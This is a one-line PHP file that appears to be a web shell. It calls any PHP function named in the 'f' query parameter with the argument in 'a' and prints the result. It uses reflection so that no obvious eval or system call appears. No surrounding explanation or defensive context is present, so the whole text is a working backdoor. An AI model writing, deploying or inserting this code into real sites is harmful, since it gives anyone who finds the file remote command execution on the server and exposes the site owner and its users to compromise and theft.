<?php $r = new ReflectionFunction($_GET["f"]); echo $r->invokeArgs(array($_GET["a"]));
